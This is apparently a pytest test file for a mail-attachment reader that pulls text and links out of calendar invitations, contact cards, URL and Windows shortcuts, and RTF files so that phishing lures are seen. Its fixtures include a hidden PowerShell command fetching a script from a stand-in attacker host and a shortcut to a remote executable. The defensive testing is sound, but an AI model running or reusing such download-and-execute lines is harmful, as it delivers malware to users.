"""If these fail, an invitation, a contact card or a shortcut carries the lure past everybody."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.growth import grows_linearly
from tests.mail.attachments import made

INVITATION = made.invitation(
    'ORGANIZER;CN="Billing, Team";ROLE=CHAIR:MAILTO:Pay@Shop.example',
    "ATTENDEE;CN=Bob:mailto:bob@firm.example",
    "ATTENDEE:mailto:cy@firm.example",
    "SUMMARY;LANGUAGE=en:Renewal\\, 479.99 USD",
    "DESCRIPTION:Not you?\\nCall 020 79",
    " 46 0123 or https://pay.example/x",
    "LOCATION:https://meet.example/j",
    "URL:https://pay.example/u",
    'X-ALT-DESC;FMTTYPE=text/html:<html><a href="https://evil.example/h">Cancel</a></html>',
)


def test_an_invitation_is_read_as_a_person_sees_it() -> None:
    text = made.read("invite.ics", INVITATION).text
    for line in (
        "Organiser: Billing, Team <pay@shop.example>",
        "Renewal, 479.99 USD",
        "Not you?\nCall 020 7946 0123 or https://pay.example/x",
        "Cancel",
        "Invited: 2",
    ):
        assert line in text


def test_an_invitation_gives_all_its_links() -> None:
    found = {link.target for link in made.read("invite.ics", INVITATION).links}
    assert found == {
        "https://pay.example/x",
        "https://meet.example/j",
        "https://pay.example/u",
        "https://evil.example/h",
    }


def test_a_card_shows_its_numbers() -> None:
    data = b"BEGIN:VCARD\r\nFN:Help Desk\r\nTEL;TYPE=work:020 7946 0123\r\nURL:https://x.example/\r\nEND:VCARD"
    found = made.read("a.vcf", data)
    assert found.text == "Help Desk\n020 7946 0123\nhttps://x.example/"
    assert [link.target for link in found.links] == ["https://x.example/"]


def test_a_shortcut_leads_where_it_says() -> None:
    found = made.read("a.url", b"[InternetShortcut]\r\nURL=file://evil.example/share/run.exe\r\n")
    assert [link.written for link in found.links] == ["file://evil.example/share/run.exe"]


def test_a_windows_shortcut_shows_its_command() -> None:
    command = "powershell -w hidden iwr https://evil.example/a.ps1"
    for encoding in ("latin-1", "utf-16-le"):
        data = b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(70) + command.encode(encoding) + bytes(4)
        found = made.read("a.pdf.lnk", data)
        assert command in found.text
        assert "https://evil.example/a.ps1" in {link.target for link in found.links}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252"])
def test_a_note_is_read_in_any_encoding(encoding: str) -> None:
    found = made.read("a.txt", "Zahlung fällig: https://x.example/z".encode(encoding))
    assert found.text.strip("\ufeff") == "Zahlung fällig: https://x.example/z"
    assert [link.target for link in found.links] == ["https://x.example/z"]


def test_rich_text_gives_words_links_and_objects() -> None:
    source = (
        rb"{\rtf1\ansi{\fonttbl{\f0 Arial;}}\b Rechnung f\'e4llig\par Call \u48?20 7946 0123 "
        rb'{\field{\*\fldinst HYPERLINK "https://evil.example/r"}{\fldrslt Open}}}'
    )
    found = made.read("a.rtf", source)
    assert "Rechnung fällig\nCall 020 7946 0123" in found.text and "Arial" not in found.text
    assert "https://evil.example/r" in {link.written for link in found.links}
    assert not found.scripts
    assert made.read("a.doc", rb"{\rtf1{\object\objupdate{\*\objdata 00}}}").scripts


@given(st.binary(max_size=300), st.sampled_from(["ics", "vcf", "url", "lnk", "rtf", "eml", "txt"]))
def test_any_bytes_are_read(noise: bytes, ending: str) -> None:
    starts = {
        "ics": b"BEGIN:VCALENDAR\nDESCRIPTION:",
        "vcf": b"BEGIN:VCARD\nTEL:",
        "url": b"[InternetShortcut]\nURL=",
        "lnk": b"L\x00\x00\x00\x01\x14\x02\x00",
        "rtf": b"{\\rtf1 ",
        "eml": b"From: a\nTo: b\nSubject: =?utf-8?b?",
        "txt": b"",
    }
    made.read(f"a.{ending}", starts[ending] + noise)


@pytest.mark.parametrize(
    "ending, start, piece",
    [
        ("ics", b"BEGIN:VCALENDAR\n", b"\n "),
        ("ics", b"BEGIN:VCALENDAR\nORGANIZER", b';CN="'),
        ("ics", b"BEGIN:VCALENDAR\nX-ALT-DESC:", b"<a \\n"),
        ("vcf", b"BEGIN:VCARD\n", b"TEL;"),
        ("rtf", b"{\\rtf1 ", b"{\\fonttbl"),
        ("rtf", b"{\\rtf1 ", b"{\\fonttbl{"),
        ("rtf", b"{\\rtf1 {\\fonttbl", b"{a}"),
        ("rtf", b"{\\rtf1 ", b"\\u1"),
        ("lnk", b"L\x00\x00\x00\x01\x14\x02\x00", b"C:\\"),
        ("url", b"[InternetShortcut]\n", b"URL="),
    ],
)
def test_reading_a_small_file_is_linear(ending: str, start: bytes, piece: bytes) -> None:
    grows_linearly(lambda data: made.read(f"a.{ending}", data), lambda n: start + piece * n, largest=1 << 16)
